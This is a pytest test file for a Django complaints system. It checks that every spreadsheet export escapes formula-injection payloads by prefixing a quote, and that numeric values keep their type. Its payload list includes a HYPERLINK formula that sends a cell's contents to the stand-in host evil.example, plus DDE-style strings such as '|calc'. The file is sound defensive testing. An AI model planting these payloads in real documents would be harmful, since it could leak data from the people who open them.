"""Issue "Trust, attacked", part 3: no complainant text becomes a formula in any spreadsheet we write
(case list and case file as CSV and XLSX, the import report, the penalty export, the analytics XLSX
report), and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from kesu.analytics import reports
from kesu.analytics.periods import Period
from kesu.analytics.views import export_table
from kesu.cases.spreadsheet import csv_writer, safe_cell
from kesu.intake import exporters
from kesu.intake.models import ImportBatch, ImportIssue, ImportSource
from kesu.intake.reports import write_issue_report
from kesu.sla import selectors as sla_selectors
from tests import factories

# Each dangerous start: Excel/LibreOffice formulas, DDE, and the tab/CR that hide them.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "@SUM(A1)",
    "+1+2",
    "-2+3+cmd",
    "=1+1",
    "%0A=1",
]
HIDDEN = ["\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_every_dangerous_start_and_nothing_else():
    for text in PAYLOADS + HIDDEN:
        assert safe_cell(text).startswith("'"), repr(text)
    assert safe_cell("|calc").startswith("'")
    for ordinary in ("投诉内容", "a=b", "", "'=already text", " 空格开头", "-5", "-1,200.50", "+86"):
        expected = "'" + ordinary if ordinary == "+86" else ordinary  # +86 is not a plain number
        assert safe_cell(ordinary) == expected, ordinary
    for value in (-5, -5.5, Decimal("-5.00"), 0, None, True, dt.date(2026, 1, 1)):
        assert safe_cell(value) is value


def test_csv_writer_neutralises_and_keeps_numbers():
    buf = io.StringIO()
    csv_writer(buf).writerows([PAYLOADS + HIDDEN, [-5, "-5", 3.25, Decimal("-7.10")]])
    dangerous, numbers = list(csv.reader(io.StringIO(buf.getvalue())))
    assert all(cell.startswith("'") for cell in dangerous), dangerous
    assert numbers == ["-5", "-5", "3.25", "-7.10"]


def _cases_with_payloads(org) -> list:
    cases = []
    for i, text in enumerate(PAYLOADS):
        cases.append(
            factories.make_case(
                org.intake,
                subject=text,
                description=text,
                customer={"name": text, "phone": f"1370000{i:04d}"},
            )
        )
    return cases


def _assert_neutral(cells: list, stored: set[str]) -> int:
    """Every cell holding a stored payload is that payload behind a `'`; returns how many were seen."""
    seen = 0
    for cell in cells:
        if isinstance(cell, str) and cell[:1] == "'" and cell[1:] in stored:
            seen += 1
        assert cell not in stored, f"formula left as is: {cell!r}"
    return seen


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell in {ws.title}: {cell.value!r}"
    return [cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _cells(fmt: str, data: bytes) -> list:
    return _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_case_list_export_neutralises_subject_description_and_customer_name(org, fmt):
    cases = _cases_with_payloads(org)
    stored = {c.subject for c in cases} | {c.description for c in cases} | {c.customer.name for c in cases}
    assert stored == set(PAYLOADS)
    out = io.BytesIO()
    exporters.export_cases(org.supervisor, None, fmt, out)  # a supervisor sees names unmasked
    # subject, description and customer name of every case
    assert _assert_neutral(_cells(fmt, out.getvalue()), stored) == 3 * len(PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_case_file_export_neutralises_every_sheet(org, fmt):
    case = _cases_with_payloads(org)[0]
    out = io.BytesIO()
    exporters.export_case_file(org.supervisor, case.number, fmt, out)
    assert _assert_neutral(_cells(fmt, out.getvalue()), {PAYLOADS[0]}) == 3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_numbers_stay_numbers(org, fmt):
    out = io.BytesIO()
    rows = iter([[-5, "-5", 1234.5, "=1+1", "\t=2"]])
    exporters._write_table(fmt, out, [("数字", ["负数", "负数文本", "金额", "公式", "制表符"], rows)])
    cells = _cells(fmt, out.getvalue())[5:]
    if fmt == "xlsx":
        assert cells == [-5, "-5", 1234.5, "'=1+1", "'\t=2"]
    else:
        assert cells == ["-5", "-5", "1234.5", "'=1+1", "'\t=2"]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_penalty_export_neutralises_names_and_keeps_negative_amounts(org, tmp_path, monkeypatch, suffix):
    row = {k: "" for k, _ in sla_selectors.PENALTY_COLUMNS}
    rows = []
    for i, text in enumerate(PAYLOADS + HIDDEN):
        rows.append({**row, "month": "2026-11", "name": text, "username": f"u{i}", "amount": Decimal("-5")})
    monkeypatch.setattr(sla_selectors, "penalty_summary", lambda month, include_proposed=True: rows)
    out = tmp_path / f"p.{suffix}"
    call_command("sla", "penalties", "--month", "2026-11", "--out", str(out), stdout=io.StringIO())
    cells = _cells(suffix, out.read_bytes())
    if suffix == "xlsx":  # XML stores a CR as a line feed
        cells = [c.replace("\n", "\r") if isinstance(c, str) else c for c in cells]
    names = [c for c in cells if isinstance(c, str) and c.lstrip("'") in PAYLOADS + HIDDEN]
    assert names == ["'" + t for t in PAYLOADS + HIDDEN]
    amounts = [c for c in cells if c in (-5, -5.0, "-5")]
    assert len(amounts) == len(rows)  # the number, not "'-5"


def test_analytics_xlsx_report_neutralises_case_subjects(org):
    now = dt.datetime.now(dt.UTC)
    cases = [
        factories.make_case(
            org.intake, subject=text, flags=["injury"], received_at=now - dt.timedelta(minutes=5)
        )
        for text in PAYLOADS
    ]
    assert all(c.level in ("major", "crisis") for c in cases)
    period = Period.parse(now.astimezone(reports.SHANGHAI).strftime("%Y-%m"))
    data = reports.build_report("monthly", period, now=now)
    cells = _xlsx_cells(reports.render_xlsx(data))
    assert _assert_neutral(cells, set(PAYLOADS)) >= len(PAYLOADS)


def test_import_report_neutralises_rejected_values(org):
    source = ImportSource.objects.create(code="legacy", name="旧系统")
    batch = ImportBatch.objects.create(source=source, mode="validate", file_name="=cmd.xlsx")
    for i, text in enumerate(PAYLOADS):
        ImportIssue.objects.create(batch=batch, row=i + 2, column="客户姓名", value=text, reason="格式无效")
    for fmt in ("csv", "xlsx"):
        out = io.BytesIO()
        write_issue_report(batch, fmt, out)
        cells = _cells(fmt, out.getvalue())
        assert _assert_neutral(cells, set(PAYLOADS)) == len(PAYLOADS)
        if fmt == "xlsx":  # the summary sheet carries the uploaded file's name
            assert "'=cmd.xlsx" in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_analytics_table_download_neutralises_labels(fmt):
    response = export_table("热点", ["名称", "数量"], [[text, -5] for text in PAYLOADS + HIDDEN], fmt)
    cells = _cells(fmt, response.content)
    if fmt == "xlsx":  # XML stores a CR as a line feed
        cells = [c.replace("\n", "\r") if isinstance(c, str) else c for c in cells]
    assert cells[2::2] == ["'" + t for t in PAYLOADS + HIDDEN]
    assert cells[3::2] == ([-5] if fmt == "xlsx" else ["-5"]) * len(PAYLOADS + HIDDEN)
